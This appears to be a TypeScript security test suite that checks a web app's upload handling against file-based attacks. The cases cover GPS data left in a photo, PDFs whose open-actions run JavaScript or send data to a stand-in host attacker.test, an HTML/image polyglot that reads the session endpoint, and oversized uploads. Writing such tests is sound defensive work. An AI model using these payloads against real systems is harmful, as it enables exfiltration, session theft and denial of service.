import { actions } from '@fieldside/contracts/http/bff/actions.ts'
import { pdfFile, pngFile } from '../../fixtures/documents.ts'
import { type Person, signUp, uploadDocument } from '../../fixtures/users.ts'
import type { Attack, Scene } from './attack.ts'

const PIXEL = Buffer.from(
  '/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wAALCAABAAEBAREA/8QAFAABAAAAAAAAAAAAAAAAAAAAA//EABQQAQAAAAAAAAAAAAAAAAAAAAD/2gAIAQEAAD8AN//Z',
  'base64',
)
const CONNECTION_LOST = 0
const PLACE = 'GPS 39.7392 -104.9903'

const photoFromHome = (): Uint8Array<ArrayBuffer> => {
  const exif = Buffer.from(`Exif\0\0${PLACE}`, 'latin1')
  const segment = Buffer.alloc(4)
  segment.writeUInt16BE(0xffe1, 0)
  segment.writeUInt16BE(exif.length + 2, 2)
  return new Uint8Array(Buffer.concat([PIXEL.subarray(0, 2), segment, exif, PIXEL.subarray(2)]))
}

/** Adds an action that runs when the document opens. */
const pdfThatOpensWith = (action: string): Uint8Array<ArrayBuffer> => {
  const plain = Buffer.from(pdfFile('Liability insurance')).toString('latin1')
  const changed = plain.replace('/Type /Catalog', () => `/Type /Catalog /OpenAction << ${action} >>`)
  if (changed === plain) throw new Error('the PDF has no catalog to add an action to')
  return new Uint8Array(Buffer.from(changed, 'latin1'))
}

const settingUp = async (scene: Scene): Promise<Person> => {
  const person = await signUp(scene, { role: 'professional' })
  await person.api.call(actions.saveProfile, {
    body: {
      full_name: person.name,
      specialty: 'Physical Therapist',
      bio: 'Knees and hips.',
      city: 'Denver',
      state: 'CO',
      phone: '+1 303 555 0100',
    },
  })
  return person
}

const setPicture = ({ api }: Person, body: Uint8Array<ArrayBuffer>) =>
  api.send('PUT', '/directory/professionals/me/picture', {
    headers: { 'content-type': 'application/octet-stream' },
    body,
  })

export const fileAttacks: Attack[] = [
  {
    id: 'files/location-in-picture',
    wants: 'to find out where a professional lives from their profile picture',
    succeeds: async (scene) => {
      const set = await setPicture(scene.pro, photoFromHome())
      if (!set.ok) return false
      const { profile_picture } = (await set.json()) as { profile_picture: string }
      const path = `/directory${profile_picture}`
      const { api } = await signUp(scene, { role: 'athlete' })
      const seen = Buffer.from(await (await api.send('GET', path)).arrayBuffer())
      return seen.includes(PLACE)
    },
  },
  {
    id: 'files/script-in-document',
    wants: 'to run a script on the machine of the admin who opens a document',
    succeeds: async (scene) => {
      const { api } = await settingUp(scene)
      const file = pdfThatOpensWith('/S /JavaScript /JS (app.alert\\(1\\))')
      return (await uploadDocument(api, 'liability_insurance', 'insurance.pdf', file)).ok
    },
  },
  {
    id: 'files/form-in-document',
    wants: 'to learn when an admin opens a document, or to send data from it',
    succeeds: async (scene) => {
      const { api } = await settingUp(scene)
      const unsafe = [
        '/S /SubmitForm /F (https://attacker.test/form)',
        '/S /URI /URI (https://attacker.test/opened)',
        '/S /GoToR /F (//attacker.test/file.pdf) /D [0 /Fit]',
      ]
      for (const action of unsafe) {
        const file = pdfThatOpensWith(action)
        if ((await uploadDocument(api, 'liability_insurance', 'insurance.pdf', file)).ok) return true
      }
      return false
    },
  },
  {
    id: 'files/polyglot',
    wants: 'to store a page that passes for an image',
    succeeds: async (scene) => {
      const { api } = await settingUp(scene)
      const page = Buffer.from('<!doctype html><script>fetch("/api/session")</script>'.repeat(50))
      const file = new Uint8Array(Buffer.concat([PIXEL, page]))
      return (await uploadDocument(api, 'government_id', 'id.jpg', file)).ok
    },
  },
  {
    id: 'files/oversized-upload',
    wants: 'to make other people’s requests fail with uploads that are too large',
    succeeds: async (scene) => {
      const [attacker, other] = [await settingUp(scene), await settingUp(scene)]
      let isDone = false
      const statuses = new Set<number>()
      const others = Array.from({ length: 4 }, async () => {
        while (!isDone)
          statuses.add(
            await setPicture(other, pngFile()).then(
              ({ status }) => status,
              () => CONNECTION_LOST,
            ),
          )
      })
      // The server may close the attacker's own connection during an upload.
      for (const megabytes of [3, 5, 3, 50, 3, 5, 3, 20])
        await setPicture(attacker, new Uint8Array(megabytes * 1024 * 1024)).catch(() => undefined)
      isDone = true
      await Promise.all(others)
      return [...statuses].some((status) => status === CONNECTION_LOST || status >= 500)
    },
  },
]
